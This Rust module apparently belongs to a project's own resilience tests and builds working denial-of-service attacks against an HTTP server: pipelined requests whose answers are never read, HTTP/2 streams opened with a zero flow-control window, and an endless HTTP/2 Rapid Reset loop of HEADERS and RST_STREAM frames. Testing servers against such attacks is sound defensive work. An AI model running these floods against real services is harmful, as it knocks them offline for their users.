//! Attacks by clients that do not read answers, over HTTP/1.1 and by hand-written HTTP/2.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::raw::Raw;

/// A request with a long answer: a page of a thousand documents.
const PAGE: &str = "/v1/collections/default/documents?limit=1000";
/// The number of requests sent on one connection before the first answer is read.
const PIPELINED: usize = 200;
/// The number of streams on one connection.
const STREAMS: u32 = 100;
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Sends many requests and reads no answer.
pub(super) async fn unread(raw: &Raw) -> Result<()> {
    let mut stream = raw.connect().await?;
    stream.write_all(&raw.head(&format!("GET {PAGE}"), "").repeat(PIPELINED)).await?;
    hold(&mut stream).await
}

/// Opens streams on which no answer's body can be sent.
pub(super) async fn closed_window(raw: &Raw) -> Result<()> {
    let mut stream = http2(raw, &[0, 4, 0, 0, 0, 0]).await?;
    let head = head(raw, PAGE);
    for number in 0..STREAMS {
        stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &head)).await?;
    }
    hold(&mut stream).await
}

/// Opens streams and resets them at once.
pub(super) async fn rapid_resets(raw: &Raw) -> Result<()> {
    let mut stream = http2(raw, &[]).await?;
    let head = head(raw, "/v1/collections");
    let mut number = 1;
    loop {
        let mut frames = Vec::new();
        for _ in 0..STREAMS {
            frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, number, &head));
            frames.extend(frame(RST_STREAM, 0, number, &8u32.to_be_bytes()));
            number += 2;
        }
        stream.write_all(&frames).await?;
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// Keeps the connection open until the server closes it. Only one byte is read, so that the end is noticed.
async fn hold(stream: &mut TcpStream) -> Result<()> {
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let mut byte = [0; 1];
        if stream.read(&mut byte).await? == 0 {
            return Ok(());
        }
    }
}

/// Begins a connection with these settings, each of six bytes.
async fn http2(raw: &Raw, settings: &[u8]) -> Result<TcpStream> {
    let mut stream = raw.connect().await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    Ok(stream)
}

/// Returns the head of a GET. It has literal fields, which need no table (RFC 7541, section 6.2.2).
fn head(raw: &Raw, path: &str) -> Vec<u8> {
    let authority = raw.address.to_string();
    let fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority.as_str()), (":path", path)];
    let mut head = Vec::new();
    for (name, value) in fields {
        head.push(0);
        for text in [name, value] {
            head.push(u8::try_from(text.len()).expect("short fields"));
            head.extend_from_slice(text.as_bytes());
        }
    }
    head
}

/// Returns a frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short frames").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
